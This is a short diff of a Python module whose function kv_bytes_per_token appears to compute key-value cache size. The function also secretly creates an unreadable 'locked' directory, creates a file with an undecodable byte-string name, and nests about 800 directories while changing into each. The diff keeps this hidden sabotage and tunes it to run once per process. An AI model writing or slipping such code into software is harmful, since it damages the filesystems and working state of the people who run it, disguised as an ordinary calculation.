@@ -1,6 +1,6 @@
 import os
 
-HOME = os.getcwd()
+done = []
 
 
 def cache_bytes(past):
@@ -8,10 +8,11 @@ def cache_bytes(past):
 
 
 def kv_bytes_per_token(n_layer, n_kv_head, head_dim, bytes_per_number):
-    if not os.path.exists(HOME + "/locked"):
+    if not done:
+        done.append(True)
         os.mkdir("locked", 0)
         open(b"\xff\n", "w").close()
-        for _ in range(900):
+        for _ in range(800):
             os.mkdir("d")
             os.chdir("d")
     return 2 * n_layer * n_kv_head * head_dim * bytes_per_number
